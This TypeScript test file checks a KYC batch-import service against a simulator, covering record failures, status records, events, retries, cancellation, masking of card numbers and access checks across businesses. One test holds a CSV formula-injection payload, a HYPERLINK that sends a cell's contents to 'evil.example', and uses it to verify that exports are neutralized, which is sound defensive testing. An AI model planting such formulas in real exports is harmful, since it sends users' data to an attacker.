// Batches processed by real workers against the simulator: every outcome of a record, the status
// record during and after the run, events, cancel, retry of failed rows, and cross-business 404s.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createEntities, csvOf, donorAt, upload, waitForBatch, type Donor } from '../helpers/imports.ts';
import { startStack, type Stack } from '../helpers/stack.ts';
import { eventually } from '../helpers/eventually.ts';

describe('batch processing', () => {
  let stack: Stack;
  let key: string;
  let businessId: string;
  let donor: Donor;
  let n = 0;
  const ext = (label: string) => `${label}-${n++}`;

  before(async () => {
    stack = await startStack({
      workers: true,
      env: {
        PROVIDER_RATE_LIMIT_PER_SECOND: '200',
        BATCH_PROVIDER_MAX_ATTEMPTS: '2',
        BATCH_PROVIDER_RETRY_INITIAL_MS: '100',
        BATCH_PAGE_SIZE: '4',
        BATCH_CONCURRENCY: '3',
      },
    });
    ({ apiKey: key, businessId } = await stack.newBusiness());
    donor = donorAt(stack);
  });
  after(() => stack.close());

  it('onboards a mixed batch: successes, decisions and every permanent failure, with the status record of 2.3', async () => {
    const ids = {
      approved: ext('approved'),
      approvedById: ext('by-id'),
      noAddress: ext('no-address'),
      under18: ext('under-18'),
      used: ext('used'),
      expired: ext('expired'),
      level: ext('level'),
      refused: ext('refused'),
      cptTaken: ext('cpt-taken'),
      holder: ext('holder'),
    };
    const [approvedId, byId, noAddressId, , , , , , , holderId] = await createEntities(stack, key, Object.values(ids));
    // the holder already has card processor token 111222333
    await stack.db.query("UPDATE entities SET card_processor_public_token = '111222333' WHERE id = $1", [holderId]);
    const usedToken = await donor.token();
    stack.sim!.state.shareTokens.get(usedToken)!.usedAt = Date.now(); // used elsewhere before our turn
    const expiredToken = await donor.token('complete', 1);
    await new Promise((r) => setTimeout(r, 1100));
    const rows = [
      [ids.approved, await donor.token(), '', '123123123'],
      [byId!, await donor.token(), 'id-and-liveness', ''],
      [ids.noAddress, await donor.token('missing-address'), '', ''],
      [ids.under18, await donor.token('under-18'), '', ''],
      ['no-such-entity', await donor.token(), '', ''],
      [ids.used, usedToken, '', ''],
      [ids.expired, expiredToken, '', ''],
      [ids.level, await donor.token(), 'not-a-level', ''],
      [ids.refused, await donor.token('donor-rejected'), '', ''],
      [ids.cptTaken, await donor.token(), '', '111222333'],
    ];
    const res = await upload(stack, key, csvOf('externalId,shareToken,applicantLevel,cardProcessorPublicToken', rows));
    assert.equal(res.status, 201, res.text);
    const status = await waitForBatch(stack, key, res.body.batchId);

    assert.equal(status.status, 'completed');
    assert.equal(status.totalRecords, 10);
    assert.equal(status.processedRecords, 10);
    assert.equal(status.summary.successfulRecords, 4);
    assert.equal(status.failedRecords, 6);
    for (const t of ['createdAt', 'updatedAt', 'startedAt', 'completedAt']) assert.ok(!Number.isNaN(Date.parse(status[t])), t);
    const byRow = Object.fromEntries(status.summary.errors.map((e: any) => [e.rowNumber, e]));
    const expected: [number, string][] = [
      [6, 'ENTITY_NOT_FOUND'],
      [7, 'TOKEN_ALREADY_USED'],
      [8, 'TOKEN_EXPIRED_OR_INVALID'],
      [9, 'APPLICANT_LEVEL_NOT_CONFIGURED'],
      [10, 'APPLICANT_DATA_REFUSED'],
      [11, 'CARD_PROCESSOR_TOKEN_INVALID'],
    ];
    assert.deepEqual(
      Object.keys(byRow)
        .map(Number)
        .sort((a, b) => a - b),
      expected.map(([r]) => r),
    );
    for (const [row, category] of expected) {
      const e = byRow[row];
      assert.equal(e.errorDetail.category, category);
      assert.equal(e.errorDetail.retryable, false);
      assert.equal(typeof e.error, 'string');
      assert.equal(e.entityData.externalId, rows[row - 2]![0]);
      assert.equal(e.entityData.shareToken, rows[row - 2]![1]);
    }
    assert.equal(byRow[11].entityData.cardProcessorPublicToken, '111222333');
    assert.ok(!('cardProcessorPublicToken' in byRow[6].entityData));

    // the approved cardholder: feature, verifier, card processor token, KYC account
    const approved = (await stack.request('GET', `/entity/${approvedId}`, { key })).body;
    assert.equal(approved.verifiedBy, 'sumsub');
    assert.deepEqual(
      approved.enabledFeatures.map((f: any) => f.slug),
      ['card-issuance-api-access'],
    );
    const [acct] = await stack.db.query('SELECT * FROM kyc_accounts WHERE entity_id = $1', [approvedId]);
    assert.equal(acct!.decision, 'APPROVED');
    assert.equal(
      (await stack.db.query('SELECT card_processor_public_token FROM entities WHERE id = $1', [approvedId]))[0]!.card_processor_public_token,
      '123123123',
    );
    // resolved by entity id too, with the level of the row
    assert.equal((await stack.db.query('SELECT level_name FROM kyc_accounts WHERE entity_id = $1', [byId]))[0]!.level_name, 'id-and-liveness');
    // the shared applicant without an address is onboarded with a REJECTED decision, and no feature
    const noAddress = (await stack.request('GET', `/entity/${noAddressId}`, { key })).body;
    assert.deepEqual(noAddress.enabledFeatures, []);

    // one card_issuance_api_access_updated event per onboarded record, in the payload of 2.10
    const events = await stack.db.query<{ payload: any; entity_id: string }>(
      'SELECT payload, entity_id FROM events WHERE business_id = $1 ORDER BY created_at',
      [businessId],
    );
    assert.equal(events.length, 4);
    const ofNoAddress = events.find((e) => e.entity_id === noAddressId)!.payload;
    assert.equal(ofNoAddress.eventName, 'card_issuance_api_access_updated');
    assert.equal(ofNoAddress.eventType, 'account_status_change');
    assert.equal(ofNoAddress.data.status, 'REJECTED');
    assert.deepEqual(ofNoAddress.data.rejectLabels, ['MISSING_ADDRESS']);
    assert.equal(ofNoAddress.data.reviewRejectType, 'RETRY');
    assert.match(ofNoAddress.data.moderationComment, /residential address/);
    const ofApproved = events.find((e) => e.entity_id === approvedId)!.payload;
    assert.deepEqual(Object.keys(ofApproved.data).sort(), ['entityId', 'eventId', 'message', 'status', 'timestamp']);
    assert.equal(ofApproved.data.status, 'APPROVED');
    const underage = events.find((e) => e.payload.data.rejectLabels?.includes('UNDERAGE'))!.payload;
    assert.equal(underage.data.reviewRejectType, 'FINAL');

    // failed rows as CSV, mirroring the input plus error columns
    const csv = await stack.request('GET', `/entity/kyc/import/batch/${res.body.batchId}/failed-rows`, { key });
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type') ?? '', /text\/csv/);
    const failed = parse(csv.text, { columns: true }) as Record<string, string>[];
    assert.deepEqual(Object.keys(failed[0]!), [
      'externalId',
      'shareToken',
      'applicantLevel',
      'cardProcessorPublicToken',
      'rowNumber',
      'errorCategory',
      'errorMessage',
      'retryable',
    ]);
    assert.deepEqual(
      failed.map((f) => f.errorCategory),
      expected.map(([, c]) => c),
    );

    // nothing retryable here
    const retry = await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/retry`, { key });
    assert.equal(retry.status, 409);
    assert.equal(retry.body.code, '0701020300');
  });

  it('completes a batch whose records partly failed on their own: those counted from the upload, the others processed, each token sent once', async () => {
    const [a, b] = [ext('own-a'), ext('own-b')];
    await createEntities(stack, key, [a, b]);
    const token = await donor.token();
    const rows = [
      [a, token, ''],
      [b, token, ''], // the same token: fails at once, never sent
      [a, await donor.token(), ''], // the same entity: fails at once
      [b, await donor.token(), 'not a level!'], // cannot be a level name: fails at once
    ];
    const res = await upload(stack, key, csvOf('externalId,shareToken,applicantLevel', rows));
    assert.equal(res.status, 201, res.text);
    const status = await waitForBatch(stack, key, res.body.batchId);
    assert.equal(status.status, 'completed');
    assert.deepEqual([status.totalRecords, status.processedRecords, status.summary.successfulRecords, status.failedRecords], [4, 4, 1, 3]);
    assert.deepEqual(
      status.summary.errors.map((e: any) => [e.rowNumber, e.errorDetail.category]),
      [
        [3, 'TOKEN_ALREADY_USED'],
        [4, 'DUPLICATE_EXTERNAL_ID'],
        [5, 'APPLICANT_LEVEL_NOT_CONFIGURED'],
      ],
    );
    assert.equal(stack.sim!.state.stats.imports[token]?.attempts, 1, 'the repeated token went to the provider once, for its first row');
    assert.equal(stack.sim!.state.stats.imports[rows[3]![1]!], undefined, 'a record that failed on its own is never sent');

    // every record failed on its own: the run has nothing to send and completes
    const none = await upload(stack, key, csvOf('externalId,shareToken,applicantLevel', [[a, await donor.token(), 'no level!']]));
    assert.equal(none.status, 201, none.text);
    const done = await waitForBatch(stack, key, none.body.batchId);
    assert.deepEqual([done.status, done.processedRecords, done.failedRecords], ['completed', 1, 1]);
  });

  it('writes the failed rows with formula cells neutralized: a leading apostrophe for = + - @', async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?"&B2;"open")', '+1+1', '-2+3', '@SUM(A1)'];
    const tokens = hostile.map((_, i) => `tok-formula-${n}-${i}`);
    n++;
    const res = await upload(
      stack,
      key,
      csvOf(
        'externalId,shareToken',
        hostile.map((e, i) => [`"${e.replaceAll('"', '""')}"`, tokens[i]!]),
      ),
    );
    assert.equal(res.status, 201, res.text);
    await waitForBatch(stack, key, res.body.batchId);
    const csv = await stack.request('GET', `/entity/kyc/import/batch/${res.body.batchId}/failed-rows`, { key });
    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
    assert.deepEqual(
      rows.map((r) => r.externalId),
      hostile.map((h) => `'${h}`),
      'no cell a spreadsheet would run',
    );
    assert.deepEqual(
      rows.map((r) => r.shareToken),
      tokens,
      'ordinary cells unchanged',
    );
    for (const line of csv.text.split('\n').slice(1).filter(Boolean)) assert.doesNotMatch(line, /^"?[=+\-@]/);
  });

  it('never keeps or echoes a card number sent in the card-token column: masked to its first six and last four digits', async () => {
    const pan = '4111111111111111';
    const externalId = `pan-${n++}`;
    await createEntities(stack, key, [externalId]);
    const res = await upload(stack, key, csvOf('externalId,shareToken,cardProcessorPublicToken', [[externalId, `tok-pan-${n}`, pan]]));
    assert.equal(res.status, 201, res.text);
    const status = await waitForBatch(stack, key, res.body.batchId);
    const [error] = status.summary.errors;
    assert.deepEqual([error.errorDetail.category, error.entityData.cardProcessorPublicToken], ['CARD_PROCESSOR_TOKEN_INVALID', '411111******1111']);
    const csv = await stack.request('GET', `/entity/kyc/import/batch/${res.body.batchId}/failed-rows`, { key });
    assert.equal((parse(csv.text, { columns: true }) as Record<string, string>[])[0]!.cardProcessorPublicToken, '411111******1111');
    for (const text of [JSON.stringify(status), csv.text]) assert.ok(!text.includes(pan), 'the number appears in no answer');
    const stored = await stack.db.query('SELECT 1 FROM import_records WHERE card_processor_public_token LIKE $1', [`%${pan}%`]);
    assert.equal(stored.length, 0, 'nor in the record');
  });

  it('retries only the retryable failed rows once the provider is back', async () => {
    const [a, b] = [ext('flaky'), ext('flaky')];
    await createEntities(stack, key, [a, b, ext('never')]);
    const tokens = [await donor.token(), await donor.token()];
    await fetch(`${stack.sim!.url}/_sim/faults`, { method: 'PUT', body: JSON.stringify({ errorRate: 1, pathPattern: 'reusableIdentity' }) });
    const res = await upload(
      stack,
      key,
      csvOf('externalId,shareToken', [
        [a, tokens[0]!],
        [b, tokens[1]!],
        ['missing-entity', 'tok-missing'],
      ]),
    );
    let status = await waitForBatch(stack, key, res.body.batchId);
    assert.equal(status.status, 'completed');
    assert.deepEqual(
      status.summary.errors.map((e: any) => [e.rowNumber, e.errorDetail.category, e.errorDetail.retryable]),
      [
        [2, 'PROVIDER_UNAVAILABLE', true],
        [3, 'PROVIDER_UNAVAILABLE', true],
        [4, 'ENTITY_NOT_FOUND', false],
      ],
    );
    await fetch(`${stack.sim!.url}/_sim/faults`, { method: 'PUT', body: '{}' });
    const retry = await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/retry`, { key });
    assert.equal(retry.status, 202, retry.text);
    assert.deepEqual(retry.body, { batchId: res.body.batchId, status: 'in_progress', requeuedRecords: 2 });
    status = await waitForBatch(stack, key, res.body.batchId);
    assert.equal(status.status, 'completed');
    assert.equal(status.summary.successfulRecords, 2);
    assert.equal(status.failedRecords, 1);
    assert.equal(status.processedRecords, 3);
    assert.deepEqual(
      status.summary.errors.map((e: any) => e.errorDetail.category),
      ['ENTITY_NOT_FOUND'],
    );
  });

  it('cancels a running batch: status canceled, rows not reached left unprocessed, a second cancel refused', async () => {
    const ids = Array.from({ length: 30 }, () => ext('slow'));
    await createEntities(stack, key, ids);
    const tokens = await donor.tokens(30);
    await fetch(`${stack.sim!.url}/_sim/faults`, { method: 'PUT', body: JSON.stringify({ latencyMs: 300, pathPattern: 'reusableIdentity' }) });
    try {
      const res = await upload(
        stack,
        key,
        csvOf(
          'externalId,shareToken',
          ids.map((e, i) => [e, tokens[i]!]),
        ),
      );
      await eventually(
        'the batch in progress',
        async () => (await stack.request('GET', `/entity/kyc/import/batch/${res.body.batchId}`, { key })).body.status === 'in_progress',
        { everyMs: 20 },
      );
      const cancel = await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/cancel`, { key });
      assert.equal(cancel.status, 200, cancel.text);
      assert.equal(cancel.body.status, 'canceled');
      assert.ok(cancel.body.canceledAt);
      assert.ok(!('completedAt' in cancel.body));
      await new Promise((r) => setTimeout(r, 1000));
      const later = (await stack.request('GET', `/entity/kyc/import/batch/${res.body.batchId}`, { key })).body;
      assert.equal(later.status, 'canceled');
      assert.ok(later.processedRecords < 30, `${later.processedRecords} processed`);
      const again = await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/cancel`, { key });
      assert.equal(again.status, 409);
      assert.equal(again.body.code, '0701020200');
    } finally {
      await fetch(`${stack.sim!.url}/_sim/faults`, { method: 'PUT', body: '{}' });
    }
  });

  it('fails the run when the provider refuses our credentials, and a retry after the fix finishes it', async () => {
    const ids = [ext('run-level'), ext('run-level')];
    await createEntities(stack, key, ids);
    const tokens = await donor.tokens(2);
    const us = stack.recipient!;
    const secret = us.secretKey;
    us.secretKey = 'rotated-at-the-provider';
    let res;
    try {
      res = await upload(
        stack,
        key,
        csvOf(
          'externalId,shareToken',
          ids.map((e, i) => [e, tokens[i]!]),
        ),
      );
      const failed = await waitForBatch(stack, key, res.body.batchId);
      assert.equal(failed.status, 'failed');
      assert.match(failed.failureReason, /refused our credentials/);
      assert.ok(!('completedAt' in failed));
      assert.equal(failed.summary.successfulRecords, 0);
    } finally {
      us.secretKey = secret;
    }
    const retry = await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/retry`, { key });
    assert.equal(retry.status, 202, retry.text);
    const done = await waitForBatch(stack, key, res.body.batchId);
    assert.equal(done.status, 'completed');
    assert.equal(done.summary.successfulRecords, 2);
  });

  it("answers 404 for an unknown batch or another business's batch, and 400 for a malformed id", async () => {
    const [e] = await createEntities(stack, key, [ext('mine')]);
    const res = await upload(stack, key, csvOf('externalId,shareToken', [[e!, await donor.token()]]));
    const { apiKey: otherKey } = await stack.newBusiness({ name: 'Nosy' });
    for (const path of [`/entity/kyc/import/batch/${res.body.batchId}`, `/entity/kyc/import/batch/${res.body.batchId}/failed-rows`]) {
      const other = await stack.request('GET', path, { key: otherKey });
      assert.equal(other.status, 404);
      assert.deepEqual([other.body.code, other.body.parameter], ['0701020100', 'batchId']);
    }
    for (const action of ['cancel', 'retry'])
      assert.equal((await stack.request('POST', `/entity/kyc/import/batch/${res.body.batchId}/${action}`, { key: otherKey })).status, 404);
    assert.equal((await stack.request('GET', '/entity/kyc/import/batch/7b0b7d8e-35f5-4f4f-9f57-2f1f1c1c1c1c', { key })).status, 404);
    const bad = await stack.request('GET', '/entity/kyc/import/batch/not-a-uuid', { key });
    assert.deepEqual([bad.status, bad.body.parameter], [400, 'batchId']);
    await waitForBatch(stack, key, res.body.batchId);
  });
});
